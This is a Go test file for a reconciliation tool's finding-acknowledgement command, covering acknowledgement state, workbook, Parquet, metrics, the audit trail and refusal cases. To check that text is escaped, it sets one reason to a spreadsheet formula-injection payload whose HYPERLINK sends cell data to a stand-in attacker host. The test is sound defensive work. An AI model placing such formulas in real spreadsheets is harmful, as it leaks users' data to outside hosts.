package ack

import (
	"database/sql"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/reconcile/reconcile/internal/checks"
	"github.com/reconcile/reconcile/internal/cli"
	"github.com/reconcile/reconcile/internal/cli/clitest"
	"github.com/reconcile/reconcile/internal/notify/notifytest"
	"github.com/reconcile/reconcile/internal/sandbox"
	"github.com/reconcile/reconcile/reports"
)

// runDate runs the sandbox fixture's data for another business date.
func runDate(t *testing.T, f *clitest.Fixture, db, out, date string, extra ...string) string {
	t.Helper()
	args := append(f.RunArgs(db, out, extra...), "--date", date)
	code, so, se := clitest.RunCLI(t, clitest.SandboxEnv, args...)
	if code != cli.ExitOK {
		t.Fatalf("run %s exited %d\n%s\n%s", date, code, so, se)
	}
	return so
}

// finding is a finding of a run, as acknowledged on the command line.
type finding struct{ kind, merchant, entity string }

// stateOf is a finding's state in a run, with its acknowledgement's owner.
func stateOf(t *testing.T, db, runID string, f finding) string {
	t.Helper()
	rows := clitest.QueryDB(t, db, `SELECT state || coalesce(' ' || ack_owner, '') FROM findings
		WHERE run_id = ? AND kind = ? AND merchant_id = ? AND entity_id = ?`, runID, f.kind, f.merchant, f.entity)
	if len(rows) != 1 {
		return fmt.Sprintf("(%d rows)", len(rows))
	}
	return rows[0][0]
}

// TestAcknowledgeEndToEnd: acknowledgements made by `reconcile ack` and by
// a run's file, against the sandbox, seen where a finance user and an
// operator look: the findings' state and columns, the workbook (the
// kind's sheet, the Summary, the Acknowledgements sheet, formula-like text
// kept as text), the Parquet dataset, the manifest and the metrics, none
// counting them as new or open; then expired, revoked (by the command and
// by the file) and the whole trail in acknowledgement_audit. Every run
// exits 0 and reports the same findings.
func TestAcknowledgeEndToEnd(t *testing.T) {
	t.Parallel() // its own sandbox, files and database
	f := clitest.NewFixture(t, sandbox.Config{})
	work := t.TempDir()
	db, out := filepath.Join(work, "r.duckdb"), filepath.Join(work, "out")
	runDay := func(date string, extra ...string) string {
		t.Helper()
		return runDate(t, f, db, out, date, extra...)
	}
	// The same days without any acknowledgement, to compare the findings.
	// The first day is the same run in both: the test's own is a copy.
	plain, plainOut := filepath.Join(work, "plain.duckdb"), filepath.Join(work, "plain-out")
	runDate(t, f, plain, plainOut, "2026-11-20")
	clitest.CopyRunFiles(t, plain, plainOut, db, out)
	runDate(t, f, plain, plainOut, "2026-11-21")

	// Two findings that stay from day to day: subscriptions' standing states.
	var picked []finding
	for _, r := range clitest.QueryDB(t, db, `SELECT kind, merchant_id, entity_id FROM findings WHERE run_id = '2026-11-20'
		AND kind IN ('subscription_delinquent', 'subscription_suspended') AND amount IS NOT NULL ORDER BY kind, merchant_id, entity_id LIMIT 2`) {
		picked = append(picked, finding{r[0], r[1], r[2]})
	}
	if len(picked) != 2 {
		t.Fatalf("the sandbox run has %d standing subscription findings, want 2", len(picked))
	}
	byCommand, byFile := picked[0], picked[1]

	const reason = `=HYPERLINK("http://attacker.example/?"&A1,"Approved")`
	code, so, se := clitest.RunCLI(t, nil, "ack", byCommand.kind, byCommand.entity, "--merchant", byCommand.merchant,
		"--reason", reason, "--owner", "Jane Doe", "--until", "2026-11-21", "--ticket", "FIN-42", "--by", "jdoe", "--db", db)
	if code != cli.ExitOK || !strings.HasPrefix(so, "acknowledged: "+byCommand.kind) || !strings.Contains(so, "run 2026-11-20") {
		t.Fatalf("ack: exit %d\n%s\n%s", code, so, se)
	}
	code, so, se = clitest.RunCLI(t, nil, "ack", "--list", "--format", "csv", "--db", db)
	if code != cli.ExitOK || !strings.Contains(so, byCommand.entity) || !strings.Contains(so, "'"+strings.ReplaceAll(reason, `"`, `""`)) {
		t.Errorf("ack --list: exit %d\n%s\n%s", code, so, se)
	}
	file := filepath.Join(work, "acknowledgements.yaml")
	writeAcks := func(entries ...finding) {
		t.Helper()
		text := "acknowledgements:\n"
		for _, e := range entries {
			text += fmt.Sprintf("  - kind: %s\n    merchant: %q\n    entity: %q\n    reason: 'Card update requested; =1+1 is no formula'\n    owner: Ops\n    until: 2026-12-31\n",
				e.kind, e.merchant, e.entity)
		}
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	writeAcks(byFile)

	// Day 2: both acknowledged; nothing else changes.
	metrics := filepath.Join(work, "r.prom")
	hook := notifytest.StartHook(t)
	notifyFile := clitest.WriteText(t, "notify.yaml", "webhook:\n  url-file: "+clitest.WriteText(t, "hook-url", hook.URL+"/hooks/T0/B0/secret")+"\n")
	so = runDay("2026-11-21", "--acknowledgements", file, "--metrics-file", metrics, "--notify", notifyFile)
	if !strings.Contains(so, "of which acknowledged: 2") {
		t.Errorf("the run's summary does not say 2 are acknowledged:\n%s", so)
	}
	for _, c := range []struct {
		f     finding
		state string
	}{{byCommand, "acknowledged Jane Doe"}, {byFile, "acknowledged Ops"}} {
		if got := stateOf(t, db, "2026-11-21", c.f); got != c.state {
			t.Errorf("day 2, %v: %q, want %q", c.f, got, c.state)
		}
	}
	// The same findings as without acknowledgements, in the same states
	// but for the two acknowledged.
	const findingsOfDay2 = `SELECT kind, merchant_id, entity_id, coalesce(amount_text(amount, currency), ''), coalesce(currency, ''),
		CASE WHEN state = 'acknowledged' THEN '(acknowledged)' ELSE state END
		FROM findings WHERE run_id = '2026-11-21' ORDER BY ALL`
	got, want := clitest.QueryDB(t, db, findingsOfDay2), clitest.QueryDB(t, plain, findingsOfDay2)
	acked := 0
	for i := range got {
		if i < len(want) && got[i][5] == "(acknowledged)" && want[i][5] != "resolved" {
			got[i][5], acked = want[i][5], acked+1
		}
	}
	if acked != 2 || fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("day 2's findings with acknowledgements (%d acknowledged) differ from those without:\n%v\n%v", acked, got, want)
	}
	counts := clitest.QueryDB(t, db, `SELECT count(*) FILTER (WHERE state = 'new'), count(*) FILTER (WHERE state = 'open')
		FROM findings WHERE run_id = '2026-11-21'`)[0]
	checkAcknowledgedOutputs(t, out, "2026-11-21", byCommand, reason, counts[0], counts[1], metrics)
	// The morning digest counts them apart too.
	posts, _ := hook.Received()
	if len(posts) != 1 {
		t.Fatalf("day 2: %d digests posted, want 1", len(posts))
	}
	digest, _ := posts[0]["reconcile"].(map[string]any)
	if fmt.Sprint(digest["acknowledgedFindings"]) != "2" || fmt.Sprint(digest["newFindings"]) != counts[0] ||
		fmt.Sprint(digest["openFindings"]) != counts[1] {
		t.Errorf("day 2's digest counts %v, want 2 acknowledged, %s new, %s open", digest, counts[0], counts[1])
	}

	// Day 3: the command's acknowledgement covered up to the 21st; the
	// file drops its entry.
	writeAcks()
	runDay("2026-11-22", "--acknowledgements", file)
	for _, fd := range []finding{byCommand, byFile} {
		if got := stateOf(t, db, "2026-11-22", fd); got != "open" {
			t.Errorf("day 3, %v: %q, want open", fd, got)
		}
	}
	// Acknowledged again and revoked by the command, without --merchant.
	if code, so, se := clitest.RunCLI(t, nil, "ack", byCommand.kind, byCommand.entity, "--merchant", byCommand.merchant,
		"--reason", "again", "--owner", "Jane Doe", "--until", "2026-12-31", "--by", "jdoe", "--db", db); code != cli.ExitOK {
		t.Fatalf("ack again: exit %d\n%s\n%s", code, so, se)
	}
	if code, so, se := clitest.RunCLI(t, nil, "ack", "--revoke", byCommand.kind, byCommand.entity, "--by", "sam", "--db", db); code != cli.ExitOK ||
		!strings.Contains(so, "revoked: "+byCommand.kind) {
		t.Errorf("ack --revoke: exit %d\n%s\n%s", code, so, se)
	}
	code, so, se = clitest.RunCLI(t, nil, "sql", "--db", db, "--format", "csv",
		"SELECT action, changed_by, split_part(source, ' ', 1) AS source, coalesce(run_id, '') AS run, entity_id FROM acknowledgement_audit ORDER BY seq")
	if code != cli.ExitOK {
		t.Fatalf("reconcile sql on the audit: %d %s", code, se)
	}
	user := checks.OSUser(func(string) string { return "" })
	trail := strings.Join([]string{
		"action,changed_by,source,run,entity_id",
		"acknowledge,jdoe,command,," + byCommand.entity,
		"acknowledge," + user + ",file,2026-11-21," + byFile.entity,
		"revoke," + user + ",file,2026-11-22," + byFile.entity, // the file is read before the run's checks
		"expire,reconcile,run,2026-11-22," + byCommand.entity,
		"acknowledge,jdoe,command,," + byCommand.entity,
		"revoke,sam,command,," + byCommand.entity,
	}, "\n") + "\n"
	if so != trail {
		t.Errorf("the audit trail:\n%s\nwant\n%s", so, trail)
	}
	// reconcile sql --tables documents the new tables.
	if code, so, _ := clitest.RunCLI(t, nil, "sql", "--db", db, "--tables", "acknowledgement_audit"); code != cli.ExitOK || !strings.Contains(so, "changed_by") {
		t.Errorf("sql --tables acknowledgement_audit: %d\n%s", code, so)
	}
}

// checkAcknowledgedOutputs checks a day's published outputs with the
// acknowledged finding ack among them: its kind's sheet (state, owner,
// end, the reason as text), the Summary and the manifest (acknowledged
// apart from new and open, as the database counts them), the Parquet
// findings and the metrics file.
func checkAcknowledgedOutputs(t *testing.T, out, date string, ack finding, reason, newCount, openCount, metrics string) {
	t.Helper()
	dir := filepath.Join(out, date)
	f, err := excelize.OpenFile(filepath.Join(dir, "reconcile-"+date+".xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := reports.KindSheetNames()[ack.kind]
	rows, _ := f.GetRows(sheet)
	found := false
	for i, r := range rows {
		if !slices.Contains(r, ack.entity) {
			continue
		}
		found = true
		for _, want := range []string{"acknowledged", "Jane Doe", "2026-11-21", reason, "FIN-42"} {
			if !slices.Contains(r, want) {
				t.Errorf("%s row %d %q has no %q", sheet, i+1, r, want)
			}
		}
		for c, v := range r {
			if v != reason {
				continue
			}
			ref, _ := excelize.CoordinatesToCellName(c+1, i+1)
			if fm, _ := f.GetCellFormula(sheet, ref); fm != "" {
				t.Errorf("%s!%s: the reason became the formula %q", sheet, ref, fm)
			}
		}
	}
	if !found {
		t.Errorf("sheet %s has no row of %s", sheet, ack.entity)
	}
	facts := map[string]string{}
	summary, _ := f.GetRows(reports.SummarySheet)
	for _, r := range summary {
		if len(r) >= 2 {
			facts[r[0]] = r[1]
		}
	}
	if facts["Acknowledged"] != "2" || facts["New today"] != newCount || facts["Still open"] != openCount {
		t.Errorf("Summary: acknowledged %q, new %q, still open %q; want 2, %s, %s", facts["Acknowledged"], facts["New today"], facts["Still open"], newCount, openCount)
	}
	acks, _ := f.GetRows(reports.AcknowledgementsSheet)
	inForce := 0
	for _, r := range acks {
		if len(r) > 11 && r[11] == "acknowledged" {
			inForce++
		}
	}
	if inForce != 2 {
		t.Errorf("the Acknowledgements sheet lists %d in force with their finding acknowledged, want 2:\n%q", inForce, acks)
	}

	var m struct {
		FindingsByKind  map[string]int64            `json:"findingsByKind"`
		FindingsByState map[string]map[string]int64 `json:"findingsByState"`
	}
	b, err := os.ReadFile(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	var ackd, newN, openN int64
	for _, n := range m.FindingsByState["acknowledged"] {
		ackd += n
	}
	for _, n := range m.FindingsByState["new"] {
		newN += n
	}
	for _, n := range m.FindingsByState["open"] {
		openN += n
	}
	if ackd != 2 || fmt.Sprint(newN) != newCount || fmt.Sprint(openN) != openCount {
		t.Errorf("manifest: acknowledged %d, new %d, open %d; want 2, %s, %s", ackd, newN, openN, newCount, openCount)
	}

	samples := clitest.ParseProm(t, metrics)
	var promAck, promNew, promOpen float64
	for _, s := range samples {
		if s.Name != "reconcile_findings" {
			continue
		}
		switch s.Labels["state"] {
		case "acknowledged":
			promAck += s.Value
		case "new":
			promNew += s.Value
		case "open":
			promOpen += s.Value
		}
	}
	if promAck != 2 || fmt.Sprint(promNew) != newCount || fmt.Sprint(promOpen) != openCount {
		t.Errorf("metrics: acknowledged %v, new %v, open %v; want 2, %s, %s", promAck, promNew, promOpen, newCount, openCount)
	}
	if v, ok := clitest.PromValue(samples, "reconcile_findings", "kind", ack.kind, "state", "acknowledged"); !ok || v < 1 {
		t.Errorf("metrics: reconcile_findings{kind=%q,state=\"acknowledged\"} = %v, %v", ack.kind, v, ok)
	}

	pq := openMemoryDuckDB(t)
	var owner, until, gotReason string
	err = pq.QueryRow(`SELECT ack_owner, CAST(ack_until AS VARCHAR), ack_reason FROM read_parquet(? || '/parquet/findings/*/*/*.parquet', hive_partitioning = true)
		WHERE state = 'acknowledged' AND entity_id = ?`, dir, ack.entity).Scan(&owner, &until, &gotReason)
	if err != nil || owner != "Jane Doe" || until != "2026-11-21" || gotReason != reason {
		t.Errorf("Parquet: %q %q %q (%v)", owner, until, gotReason, err)
	}
}

func openMemoryDuckDB(t *testing.T) *sql.DB {
	t.Helper()
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

// A bad acknowledgements file fails the run before it starts (exit 1, the
// line named) and changes nothing; bad ack arguments are refused the same
// way, and a database that is not there is not created.
func TestAcknowledgeRefusals(t *testing.T) {
	t.Parallel() // its own copy of the shared small run's files and database
	r := clitest.SharedSmallRun(t)
	f := r.F
	db, out := r.Copy(t)
	work := filepath.Dir(db)
	if code, so, se := r.Code, r.Stdout, r.Stderr; code != cli.ExitOK {
		t.Fatalf("run: %d\n%s\n%s", code, so, se)
	}
	runsBefore := clitest.QueryDB(t, db, `SELECT count(*), max(attempts) FROM runs`)[0]
	bad := filepath.Join(work, "bad.yaml")
	os.WriteFile(bad, []byte("acknowledgements:\n  - kind: missed_cycle\n    merchant: m1\n    entity: s1:2\n    reason: r\n    owner: o\n    until: 2026-13-01\n"), 0o644)
	code, _, se := clitest.RunCLI(t, clitest.SandboxEnv, append(f.RunArgs(db, out), "--acknowledgements", bad)...)
	if code != cli.ExitFailed || !strings.Contains(se, "line 7: until \"2026-13-01\"") {
		t.Errorf("a run with a bad acknowledgements file: exit %d, %s", code, se)
	}
	if got := clitest.QueryDB(t, db, `SELECT count(*), max(attempts) FROM runs`)[0]; !slices.Equal(got, runsBefore) {
		t.Errorf("runs %v after the refused run, %v before: it must not have started", got, runsBefore)
	}
	// The same through the environment, as every flag.
	code, _, se = clitest.RunCLI(t, map[string]string{"RECONCILE_SECRET": sandbox.DefaultSecret, "RECONCILE_ACKNOWLEDGEMENTS": bad}, f.RunArgs(db, out)...)
	if code != cli.ExitFailed || !strings.Contains(se, clitest.Printed(bad)) {
		t.Errorf("RECONCILE_ACKNOWLEDGEMENTS: exit %d, %s", code, se)
	}
	missing := filepath.Join(work, "none.duckdb")
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"ack", "missed_cycle", "s1:2", "--merchant", "m1", "--reason", "r", "--owner", "o", "--until", "2026-12-31", "--db", missing}, "--db " + missing},
		{[]string{"ack", "missed_cycle", "--db", db}, "give KIND and ENTITY"},
		{[]string{"ack", "missed_cycle", "s1:2", "--reason", "r", "--owner", "o", "--until", "2026-12-31", "--db", db}, "--merchant is required"},
		{[]string{"ack", "missed_cycle", "s1:2", "--merchant", "m1", "--reason", "r", "--owner", "o", "--until", "31/12/2026", "--db", db}, `--until "31/12/2026"`},
		{[]string{"ack", "no_kind", "x", "--merchant", "m1", "--reason", "r", "--owner", "o", "--until", "2026-12-31", "--db", db}, `kind "no_kind"`},
		{[]string{"ack", "missed_cycle", "nope", "--merchant", "m1", "--reason", "r", "--owner", "o", "--until", "2026-12-31", "--db", db}, "reports no missed_cycle finding"},
		{[]string{"ack", "--list", "--revoke", "--db", db}, "do not go together"},
		{[]string{"ack", "--list", "--owner", "x", "--db", db}, "--owner is for making"},
		{[]string{"ack", "--revoke", "missed_cycle", "s1:2", "--reason", "x", "--db", db}, "--reason is for making"},
		{[]string{"ack", "--revoke", "missed_cycle", "s1:2", "--db", db}, "no acknowledgement of missed_cycle"},
	} {
		code, _, se := clitest.RunCLI(t, nil, c.args...)
		if code != cli.ExitFailed || !strings.Contains(se, clitest.Printed(c.want)) {
			t.Errorf("%v: exit %d, %q; want 1 and %q", c.args, code, se, c.want)
		}
	}
	if _, err := os.Stat(missing); err == nil {
		t.Error("ack created the database it was given")
	}
	if n := clitest.QueryDB(t, db, `SELECT count(*) FROM acknowledgement_audit`)[0][0]; n != "0" {
		t.Errorf("%s audit rows after refusals only", n)
	}
}

// While a run holds the working file, ack fails at once, saying so, and
// changes nothing.
func TestAcknowledgeWhileARunHoldsTheDatabase(t *testing.T) {
	t.Parallel() // its own sandbox, files and database
	if testing.Short() {
		t.Skip("builds the binary: skipped with -short")
	}
	fast := clitest.SharedSmallRun(t) // the first run: its own copy of the shared small run
	db, out := fast.Copy(t)
	if code, so, se := fast.Code, fast.Stdout, fast.Stderr; code != cli.ExitOK {
		t.Fatalf("first run: %d\n%s\n%s", code, so, se)
	}
	rows := clitest.QueryDB(t, db, `SELECT kind, merchant_id, entity_id FROM findings WHERE run_id = '2026-11-20' AND state <> 'resolved' LIMIT 1`)
	slow := clitest.NewFixture(t, sandbox.Config{Faults: sandbox.Faults{Latency: 100 * time.Millisecond}})
	writer := clitest.StartRun(t, slow.RunArgs(db, out, "--force", "--concurrency", "1"))
	defer func() { writer.Process.Kill(); writer.Wait() }()
	time.Sleep(500 * time.Millisecond) // the writer opens the database before its first request

	for _, args := range [][]string{
		{"ack", rows[0][0], rows[0][2], "--merchant", rows[0][1], "--reason", "r", "--owner", "o", "--until", "2026-12-31", "--db", db},
		{"ack", "--list", "--db", db},
		{"ack", "--revoke", rows[0][0], rows[0][2], "--db", db},
	} {
		start := time.Now()
		code, _, stderr := clitest.RunCLI(t, nil, args...)
		if code != cli.ExitFailed || !strings.Contains(stderr, "in use by another process") || time.Since(start) > 10*time.Second {
			t.Errorf("%v while a run writes: exit %d after %v, %q; want 1 at once, saying the database is in use", args[:2], code, time.Since(start), stderr)
		}
	}
	if writer.ProcessState != nil {
		t.Fatal("the run had already finished: the test did not exercise the lock")
	}
	writer.Process.Signal(os.Interrupt) // a clean stop, so that the file can be read after
	writer.Wait()
	if n := clitest.QueryDB(t, db, `SELECT count(*) FROM acknowledgement_audit`)[0][0]; n != "0" {
		t.Errorf("%s audit rows: ack changed the database while a run held it", n)
	}
}
